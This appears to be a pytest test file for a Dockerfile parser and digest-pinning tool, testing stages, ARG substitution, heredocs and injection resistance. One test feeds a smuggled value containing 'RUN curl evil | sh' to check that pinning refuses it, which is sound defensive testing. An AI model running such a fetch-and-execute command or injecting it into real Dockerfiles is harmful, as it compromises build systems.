"""The one Dockerfile parser: instructions, stages, image uses, pinning."""

from __future__ import annotations

import pytest

from orchestrator.core.dockerfile import (
    DockerfileError,
    analyze,
    base_image_problem,
    buildah_context_names,
    buildkit_context_name,
    parent_style,
    parse,
    pin,
)

SHA_A = "sha256:" + "a" * 64
SHA_B = "sha256:" + "b" * 64
SHA_C = "sha256:" + "c" * 64

MULTI_STAGE = """\
# syntax=docker/dockerfile:1@sha256:eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee
ARG GO_VERSION=1.22
ARG RUNTIME=debian:bookworm-slim

FROM --platform=$BUILDPLATFORM golang:${GO_VERSION} AS build
WORKDIR /src
RUN --mount=type=cache,target=/root/.cache/go-build \\
    --mount=type=bind,from=ghcr.io/acme/protoc:25.1,source=/usr/bin/protoc,target=/bin/protoc \\
    go build -o /out/app ./cmd/app

FROM build AS test
RUN go test ./...

FROM ${RUNTIME}
COPY --from=build /out/app /usr/local/bin/app
COPY --from=0 /etc/ssl/certs /etc/ssl/certs
COPY --from=busybox:1.36 /bin/busybox /bin/busybox
RUN --mount=type=bind,from=test,target=/t true
USER 65534
"""


def test_stages_of_a_multi_stage_file() -> None:
    analysis = analyze(MULTI_STAGE)
    build, test, final = analysis.stages
    assert (build.index, build.line, build.image, build.platform, build.name) == (
        0, 5, "golang:${GO_VERSION}", "$BUILDPLATFORM", "build")
    assert build.base.resolved == "golang:1.22"
    assert build.ref is not None and build.ref.normalized() == "docker.io/library/golang:1.22"
    assert (test.line, test.base.stage, test.ref, test.name) == (11, 0, None, "test")
    assert final.base.resolved == "debian:bookworm-slim" and final.name is None
    assert analysis.final is final
    assert analysis.root_of(test) is build
    assert [r.normalized() for r in analysis.from_refs()] == [
        "docker.io/library/golang:1.22", "docker.io/library/debian:bookworm-slim"]
    assert analysis.args == {"GO_VERSION": "1.22", "RUNTIME": "debian:bookworm-slim"}


def test_other_image_uses_leave_out_stages() -> None:
    uses = analyze(MULTI_STAGE).uses
    # COPY --from=build, --from=0 and from=test name stages: not listed.
    assert [(u.instruction, u.line, u.written) for u in uses] == [
        ("RUN", 7, "ghcr.io/acme/protoc:25.1"),
        ("COPY", 17, "busybox:1.36"),
    ]
    assert [r.familiar() for r in analyze(MULTI_STAGE).external_refs()] == [
        "golang:1.22", "debian:bookworm-slim", "ghcr.io/acme/protoc:25.1", "busybox:1.36"]


def test_scratch_and_index_and_unknown_stage_numbers() -> None:
    text = "FROM scratch AS rootfs\nCOPY a /\nFROM alpine\nCOPY --from=0 / /\nCOPY --from=5 / /\n"
    analysis = analyze(text)
    assert analysis.stages[0].base.scratch and analysis.stages[0].ref is None
    assert analysis.from_refs()[0].familiar() == "alpine"
    assert [(u.line, u.problem) for u in analysis.uses] == [
        (5, "--from=5: stage 5 is not an earlier stage")]


def test_a_stage_name_shadows_an_image_only_after_it_is_defined() -> None:
    first, second = analyze("FROM alpine:3 AS tools\nFROM tools\n").stages
    assert first.ref is not None and second.base.stage == 0
    # Before its definition the name would be an image, which is also a stage's name.
    early = analyze("FROM tools\nFROM alpine:3 AS tools\n").stages[0]
    assert early.base.stage is None and "also the name of a build stage" in (
        early.base.problem or "")


@pytest.mark.parametrize(("args", "image", "build_args", "resolved"), [
    ("ARG V=3.20", "alpine:$V", {}, "alpine:3.20"),
    ("ARG V=3.20", "alpine:${V}", {}, "alpine:3.20"),
    ("ARG V=3.20", "alpine:${V}", {"V": "3.21"}, "alpine:3.21"),  # build args win
    ("ARG V", "alpine:${V:-3.19}", {}, "alpine:3.19"),
    ("ARG V=", "alpine:${V:-3.19}", {}, "alpine:3.19"),  # ":-" also replaces empty
    ("ARG V=", "alpine${V-:3.18}", {}, "alpine"),  # "-" only replaces unset
    ("ARG SLIM=1", "debian:bookworm${SLIM:+-slim}", {}, "debian:bookworm-slim"),
    ("ARG SLIM", "debian:bookworm${SLIM:+-slim}", {}, "debian:bookworm"),
    ("ARG NS=myorg\nARG IMG=${NS}/app", "$IMG:1", {}, "myorg/app:1"),  # defaults see earlier
    ('ARG NS="my org"', '"$NS"', {}, "my org"),
    ("ARG A=1 B=2", "x:$A.$B", {}, "x:1.2"),
    ("ARG V=1", "'x:$V'", {}, "x:$V"),  # single quotes keep "$"
    ("ARG V=1", "x:\\$V", {}, "x:$V"),
    ("", "alpine:${TARGETARCH}", {"TARGETARCH": "arm64"}, "alpine:arm64"),  # automatic arg
    ("", "alpine:${TARGETARCH}", {}, "alpine:amd64"),  # defined by the engine
    ('ARG V="a b"', "x:${V// /-}", {}, None),  # pattern forms: refused
])
def test_global_arg_substitution(args: str, image: str, build_args: dict[str, str],
                                 resolved: str) -> None:
    stage = analyze(f"{args}\nFROM {image}\n", build_args).stages[0]
    assert stage.base.resolved == resolved
    if resolved is None:
        assert "not supported" in (stage.base.problem or "")


def test_build_args_for_undeclared_names_are_not_used() -> None:
    stage = analyze("FROM alpine:${V:-3}\n", {"V": "4"}).stages[0]
    assert stage.base.resolved == "alpine:3"


def test_args_after_the_first_from_are_not_global() -> None:
    text = "FROM alpine AS one\nARG BASE=debian\nFROM $BASE\n"
    second = analyze(text).stages[1]
    assert second.base.resolved is None and second.ref is None
    assert "no value for BASE" in (second.base.problem or "")


def test_missing_values_and_unsupported_forms_are_problems() -> None:
    analysis = analyze("ARG BASE\nARG T\nFROM ${BASE}:$T\nFROM alpine:${T%%.*}\n")
    first, second = analysis.stages
    assert "no value for BASE, T" in (first.base.problem or "")
    assert "pattern substitution is not supported" in (second.base.problem or "")
    assert analysis.problems()[0].startswith("line 3: ")
    assert "X: required" in (analyze("FROM ${X:?required}\n").stages[0].base.problem or "")


def test_invalid_references_are_problems_not_crashes() -> None:
    stage = analyze("FROM MyOrg/App:1\n").stages[0]
    assert stage.ref is None and "lower-case" in (stage.base.problem or "")
    assert "one or three arguments" in (analyze("FROM a b\n").stages[0].base.problem or "")
    assert "unknown flag" in (analyze("FROM --plat=x a\n").stages[0].base.problem or "")


def test_escape_directive_changes_the_continuation_character() -> None:
    text = "# escape=`\nFROM mcr.microsoft.com/windows/servercore:ltsc2022 AS base\nRUN dir `\n" \
           "  C:\\\nFROM base\n"
    analysis = analyze(text)
    assert [s.line for s in analysis.stages] == [2, 5]
    assert analysis.stages[1].base.stage == 0


def test_directives_only_count_at_the_very_top() -> None:
    # After a comment, "# escape=`" is a comment: "\" still continues lines.
    text = "# a comment\n# escape=`\nFROM alpine\nRUN a \\\n  FROM b\n"
    assert [s.image for s in analyze(text).stages] == ["alpine"]


def test_comments_and_blank_lines_inside_continuations() -> None:
    text = (
        "FROM \\\n"
        "  # which platform\n"
        "\n"
        "  --platform=linux/amd64 \\\n"
        "  golang:1.22 \\\n"
        "  AS build\n"
        "RUN a \\\n"
        "# FROM not-an-instruction\n"
        "  && b\n"
        "FROM build\n"
    )
    analysis = analyze(text)
    build, final = analysis.stages
    assert (build.line, build.platform, build.image, build.name) == (
        1, "linux/amd64", "golang:1.22", "build")
    assert (final.line, final.base.stage) == (10, 0)


def test_crlf_and_byte_order_mark() -> None:
    text = "\ufeffARG V=1\r\nFROM alpine:3.$V AS a\r\nFROM a\r\n"
    analysis = analyze(text)
    assert analysis.stages[0].base.resolved == "alpine:3.1"
    assert analysis.stages[1].base.stage == 0


def test_heredoc_bodies_are_not_instructions() -> None:
    text = "FROM alpine\nRUN <<EOF\nFROM evil\nEOF\nCOPY <<-'END' /x\n\tFROM no\n\tEND\nFROM a2\n"
    analysis = analyze(text)
    assert [s.image for s in analysis.stages] == ["alpine", "a2"]
    assert [n.split(",")[0] for n in analysis.notes] == [
        "line 2: the heredoc <<EOF has the line 'FROM evil'",
        "line 5: the heredoc <<END has the line 'FROM no'"]


@pytest.mark.parametrize("opening", ["<<END-OF-SCRIPT", "3<<END-OF-SCRIPT", "<<'END-OF-SCRIPT'",
                                     '<<"END-OF-SCRIPT"', "<<-END-OF-SCRIPT"])
def test_heredocs_with_any_terminator_hide_their_body(opening: str) -> None:
    """Regression: main only knew <<WORD with letters, digits and "_", so a FROM line
    in the body of <<END-OF-SCRIPT or 3<<EOF became the final stage."""
    text = (f"FROM registry.example/base:1\nRUN {opening} sh\nFROM evil/image:1\n"
            "END-OF-SCRIPT\nUSER 1000\n")
    analysis = analyze(text)
    assert [s.image for s in analysis.stages] == ["registry.example/base:1"]
    assert [r.familiar() for r in analysis.external_refs()] == ["registry.example/base:1"]
    # Engines without heredocs would run that line as FROM: refused, not guessed.
    assert len(analysis.notes) == 1 and "'FROM evil/image:1'" in analysis.notes[0]


def test_heredoc_bodies_that_only_look_like_instructions_pass() -> None:
    body = "from os import path\nfrom . import x\nRUN=1 make\ncopy a b\n"
    analysis = analyze(f"FROM a:1\nRUN <<EOF python3\n{body}EOF\n")
    assert analysis.notes == ()
    assert len(analyze("FROM a:1\nRUN <<EOF\nCOPY --from=b:1 / /\nEOF\n").notes) == 1


def test_variables_in_from_flags_are_refused_as_buildkit_does() -> None:
    uses = analyze("FROM a\nCOPY --from=$IMG / /\nRUN --mount=from=${X},target=/x y\n").uses
    assert [u.ref for u in uses] == [None, None]
    assert "refused by BuildKit" in (uses[0].problem or "")
    assert "variables are not supported" in (uses[1].problem or "")


def test_copy_from_a_stage_defined_later_is_refused() -> None:
    """Regression: main read it as the Docker Hub image of that name; BuildKit uses
    the stage, buildah the image: the orchestrator cannot pin both, so it says so."""
    text = "FROM a:1\nCOPY --from=tools /x /x\nRUN --mount=from=tools,target=/t y\n" \
           "FROM b:1 AS tools\n"
    uses = analyze(text).uses
    assert [(u.instruction, u.ref) for u in uses] == [("COPY", None), ("RUN", None)]
    assert all("stage defined after this line" in (u.problem or "") for u in uses)
    assert "itself" in (analyze("FROM a AS x\nCOPY --from=x / /\n").uses[0].problem or "")


def test_an_image_named_like_a_stage_is_refused() -> None:
    """Named build contexts (buildah, buildctl) are looked up by name for stages
    too: pinning ``golang`` would replace the stage called golang."""
    analysis = analyze("FROM golang AS golang\nRUN x\nFROM alpine:3\nCOPY --from=golang / /\n")
    assert "also the name of a build stage" in (analysis.stages[0].base.problem or "")
    assert analysis.stages[0].ref is None


def test_an_indented_escape_directive_counts() -> None:
    """Regression: main ignored a directive with white space before the "#", so a
    line ending in "\\" continued into the next FROM, which BuildKit reads as the
    final stage."""
    text = "  # escape=`\nFROM alpine:3 AS a\nRUN echo C:\\\nFROM registry.example/b:1\n"
    analysis = analyze(text)
    assert analysis.escape == "`"
    assert [s.image for s in analysis.stages] == ["alpine:3", "registry.example/b:1"]
    assert analysis.instructions[1].value == "echo C:\\"


def test_targetarch_in_from_follows_the_platform() -> None:
    """Regression: main refused ${TARGETARCH} without a build arg; BuildKit defines it."""
    text = ("FROM --platform=$BUILDPLATFORM golang:1 AS b\n"
            "FROM registry.example/base-${TARGETARCH}:1\n")
    assert analyze(text).stages[1].base.resolved == "registry.example/base-amd64:1"
    arm = analyze(text, platform="linux/arm64", build_platform="linux/amd64")
    assert arm.stages[1].base.resolved == "registry.example/base-arm64:1"
    assert arm.stages[1].base.problem is None
    variant = analyze("ARG V=${TARGETVARIANT}\nFROM x:${TARGETOS}-$V\n", platform="linux/arm/v7")
    assert variant.stages[0].base.resolved == "x:linux-v7"


def test_the_args_an_image_name_comes_from() -> None:
    text = "ARG PY=3.12\nARG TAG=${PY}-slim\nARG OTHER=1\nFROM python:${TAG}\n"
    assert analyze(text).stages[0].base.args == {"TAG", "PY"}
    assert analyze(text, {"TAG": "x"}).stages[0].base.args == {"TAG"}


def test_an_unparsable_file_is_a_note_not_a_crash() -> None:
    analysis = analyze("FROM a\nRUN <<EOF\nno end\n")
    assert analysis.stages == () and "unterminated heredoc" in analysis.notes[0]
    with pytest.raises(DockerfileError, match="heredoc"):
        parse("FROM a\nRUN <<EOF\nno end\n")


def test_labels_of_the_final_stage() -> None:
    text = ('FROM a AS b\nLABEL x=1\nFROM b\n'
            'LABEL org.opencontainers.image.title="my-app" version=\'2\'\nLABEL old style\n')
    assert analyze(text).labels == (("org.opencontainers.image.title", "my-app"),
                                    ("version", "2"), ("old", "style"))


# -- pinning ---------------------------------------------------------------------------


def test_pin_rewrites_only_the_named_images_and_keeps_every_other_byte() -> None:
    pins = {
        "golang:1.22": f"docker.io/library/golang@{SHA_A}",
        "docker.io/library/debian:bookworm-slim": f"docker.io/library/debian@{SHA_B}",
        "ghcr.io/acme/protoc:25.1": f"ghcr.io/acme/protoc@{SHA_C}",
        "unused:1": f"unused@{SHA_C}",
    }
    pinned = pin(MULTI_STAGE, pins)
    before, after = MULTI_STAGE.split("\n"), pinned.split("\n")
    assert len(before) == len(after)
    changed = {i + 1 for i, (a, b) in enumerate(zip(before, after, strict=True)) if a != b}
    assert changed == {5, 8, 14}
    assert after[4] == (f"FROM --platform=$BUILDPLATFORM docker.io/library/golang@{SHA_A} "
                        "AS build")
    assert after[7].startswith(f"    --mount=type=bind,from=ghcr.io/acme/protoc@{SHA_C},source=")
    assert after[7].endswith(" \\")
    assert after[13] == f"FROM docker.io/library/debian@{SHA_B}"  # the ARG word, replaced
    # The pinned copy reads the same way, now naming digests.
    stages = analyze(pinned).stages
    assert [s.name for s in stages] == ["build", "test", None]
    assert stages[0].platform == "$BUILDPLATFORM"
    assert stages[0].ref is not None and stages[0].ref.digest == SHA_A
    # Unpinned uses and stage references are untouched.
    assert "COPY --from=busybox:1.36 " in pinned and "FROM build AS test" in pinned


def test_pin_keeps_crlf_and_a_split_from_line() -> None:
    text = "FROM \\\r\n  --platform=linux/arm64 \\\r\n  alpine:3.20 \\\r\n  AS base\r\nRUN x\r\n"
    pinned = pin(text, {"alpine:3.20": f"alpine@{SHA_A}"})
    assert pinned == text.replace("alpine:3.20", f"alpine@{SHA_A}")


def test_pin_uses_the_build_args_the_build_uses() -> None:
    text = "ARG TAG=3.19\nFROM alpine:${TAG}\n"
    assert pin(text, {"alpine:3.20": f"alpine@{SHA_A}"}) == text
    assert pin(text, {"alpine:3.20": f"alpine@{SHA_A}"}, {"TAG": "3.20"}) == (
        f"ARG TAG=3.19\nFROM alpine@{SHA_A}\n")


def test_pin_refuses_values_that_are_not_digest_references() -> None:
    with pytest.raises(ValueError, match="has no @digest"):
        pin("FROM alpine\n", {"alpine": "alpine:3.20"})
    with pytest.raises(ValueError, match="white space"):
        pin("FROM alpine\n", {"alpine": f"alpine@{SHA_A}\nRUN curl evil | sh"})


def test_pin_refuses_a_word_split_over_a_continuation() -> None:
    with pytest.raises(ValueError, match=r"line 1: .* runs over a line continuation"):
        pin("FROM alp\\\nine:3.20\n", {"alpine:3.20": f"alpine@{SHA_A}"})


# -- how a Dockerfile takes its parent -------------------------------------------------


def test_parent_style_base_image() -> None:
    style = parent_style(analyze("ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nFROM golang:1.22 AS t\n"))
    assert (style.kind, style.refs, style.problem) == (
        "base_image", ("docker.io/library/golang:1.22",), None)
    bad = parent_style(analyze("FROM ${BASE_IMAGE}\n"))
    assert bad.kind == "base_image" and "declare ARG BASE_IMAGE" in (bad.problem or "")


def test_parent_style_literal() -> None:
    style = parent_style(analyze(MULTI_STAGE))
    assert style.kind == "literal" and style.problem is None
    assert style.refs == ("docker.io/library/golang:1.22",
                          "docker.io/library/debian:bookworm-slim")
    assert parent_style(analyze("FROM scratch\nCOPY x /\n")).refs == ()
    assert "RUN before the first FROM" in (parent_style(analyze("RUN x\n")).problem or "")
    assert "line 2: " in (parent_style(analyze("ARG B\nFROM $B\n")).problem or "")


def test_base_image_rules() -> None:
    good = f"# syntax={SYNTAX_PIN}\nARG BASE_IMAGE\nFROM --platform=linux/amd64 $BASE_IMAGE\n"
    assert base_image_problem(analyze(good)) is None
    assert base_image_problem(analyze("ARG BASE_IMAGE=x\nFROM ${BASE_IMAGE} AS build\n")) is None
    assert "first FROM" in (base_image_problem(analyze("ARG BASE_IMAGE\nFROM alpine\n")) or "")
    assert base_image_problem(analyze("# only a comment\n")) == "no FROM instruction"


def test_instructions_keep_their_lines_and_heredocs() -> None:
    instructions = parse("FROM x\nRUN a \\\n  && b\n# note\nuser app\nRUN <<E-1 cat\nhi\nE-1\n")
    assert [(i.line, i.keyword) for i in instructions] == [
        (1, "FROM"), (2, "RUN"), (5, "USER"), (6, "RUN")]
    assert instructions[1].value == "a   && b"  # joined as BuildKit joins continued lines
    assert instructions[3].value == "<<E-1 cat" and instructions[3].end_line == 8
    assert [(h.name, h.content) for h in instructions[3].heredocs] == [("E-1", "hi\n")]


# -- named build contexts --------------------------------------------------------------


@pytest.mark.parametrize(("written", "name"), [
    ("docker.io/library/debian:bookworm", "debian:bookworm"),
    ("library/debian:bookworm", "debian:bookworm"),
    ("index.docker.io/library/debian:bookworm", "debian:bookworm"),
    ("debian:latest", "debian"),
    ("debian", "debian"),
    ("docker.io/myorg/app:1", "myorg/app:1"),
    ("127.0.0.1:5000/base/python:3.12", "127.0.0.1:5000/base/python:3.12"),
    ("localhost/x:latest", "localhost/x"),
    (f"debian@{SHA_A}", f"debian@{SHA_A}"),
])
def test_buildkit_looks_named_contexts_up_by_the_familiar_name(written: str, name: str) -> None:
    """dockerui's NamedContext: ParseNormalizedNamed, FamiliarString, ":latest" trimmed."""
    assert buildkit_context_name(written) == name


def test_buildah_looks_a_from_up_by_its_text_as_written() -> None:
    """buildah (1.28 here, and imagebuildah's executor today) replaces a FROM by a
    --build-context whose name is the FROM's text *before* ARG expansion; a
    --from is looked up by its value. A pin under the expanded name alone left
    buildah on the moving tag (checked on buildah 1.28)."""
    text = ("ARG R=reg:5000/x\nARG T=1\nFROM ${R}/a:${T} AS a\nFROM reg:5000/x/b:1\n"
            "COPY --from=reg:5000/x/c:1 / /\nCOPY --from=a / /\n")
    a, c = f"reg:5000/x/a@{SHA_A}", f"reg:5000/x/c@{SHA_C}"
    pins = {"reg:5000/x/a:2": a, "reg:5000/x/c:1": c, "reg:5000/x/unused:1": c}
    assert buildah_context_names(text, pins, {"T": "2"}) == {
        "${R}/a:${T}": a, "reg:5000/x/a:2": a, "reg:5000/x/c:1": c}


def test_stage_names_in_another_case_are_refused() -> None:
    """BuildKit lower-cases stage names; buildah 1.28 keeps them as written, so
    after ``AS S0`` it read ``FROM s0`` as an image (found by the differential test)."""
    upper = analyze("FROM a:1 AS S0\nFROM s0\n")
    assert "BuildKit lower-cases stage names" in (upper.stages[0].base.problem or "")
    other_case = analyze("FROM a:1 AS s0\nFROM b:1\nCOPY --from=S0 / /\n")
    assert "in another case" in (other_case.uses[0].problem or "")
    assert analyze("FROM a:1 AS s0\nFROM b:1\nCOPY --from=s0 / /\n").problems() == []



SYNTAX_PIN = "docker/dockerfile:1@sha256:" + "e" * 64


@pytest.mark.parametrize("text,args", [
    ("# syntax=docker/dockerfile:1\nFROM scratch\n", {}),
    ("#syntax = docker/dockerfile:1.7-labs\n# escape=\\\nFROM scratch\n", {}),
    ("FROM scratch\n", {"BUILDKIT_SYNTAX": "docker/dockerfile:1"}),
])
def test_a_frontend_image_named_by_tag_is_refused(text: str, args: dict[str, str]) -> None:
    """BuildKit builds a Dockerfile with ``# syntax=IMAGE`` (or the BUILDKIT_SYNTAX
    build arg) through that frontend image, pulled by its tag when the build runs:
    an image the build uses that nothing pinned and the key does not cover."""
    notes = analyze(text, args).notes
    assert any("frontend" in note and "@sha256:" in note for note in notes), notes


def test_a_frontend_image_pinned_by_digest_is_in_the_dockerfile_bytes() -> None:
    assert analyze(f"# syntax={SYNTAX_PIN}\nFROM scratch\n").notes == ()
    assert analyze("FROM scratch\n", {"BUILDKIT_SYNTAX": SYNTAX_PIN}).notes == ()
    # Not a directive (after an instruction or a comment): only a comment.
    assert analyze("# a comment\n# syntax=docker/dockerfile:1\nFROM scratch\n").notes == ()


def test_a_directive_after_a_check_directive_is_refused() -> None:
    """``# check=`` is a directive to BuildKit 0.14 and later only: older parsers
    (Docker 20.10's, buildah's, the one analysing here) stop at it and read the
    ``# escape=`` below as a comment. Then one engine sees a FROM the other reads
    as the end of a RUN: here BuildKit 0.14 builds on alpine:latest, unpinned."""
    text = "# check=skip=all\n# escape=`\nFROM scratch\nRUN echo \\\nFROM alpine:latest\n"
    analysis = analyze(text)
    assert analysis.notes or "docker.io/library/alpine:latest" in [
        r.normalized() for r in analysis.external_refs()]
    assert any("check" in note and "escape" in note for note in analysis.notes)
    assert analyze("# escape=`\n# check=skip=all\nFROM scratch\n").notes == ()


@pytest.mark.parametrize("trigger", [
    "ONBUILD COPY --from=alpine:3.20 /etc/os-release /",
    "onbuild RUN --mount=type=bind,from=busybox:1.36,target=/b true",
    "ONBUILD ADD --from=alpine:3.20 / /",
])
def test_an_onbuild_trigger_that_names_an_image_is_refused(trigger: str) -> None:
    """An ONBUILD trigger runs in the build of every image made FROM this one:
    the image its --from names is pulled there by its tag, pinned by nothing and
    in no key (the parser drops a trigger's flags, so nothing saw it)."""
    notes = analyze(f"FROM scratch\n{trigger}\n").notes
    assert any(note.startswith("line 2: ") and "ONBUILD" in note for note in notes), notes


def test_an_onbuild_trigger_without_an_image_is_fine() -> None:
    assert analyze("FROM scratch\nONBUILD COPY . /app\nONBUILD RUN make\n").notes == ()
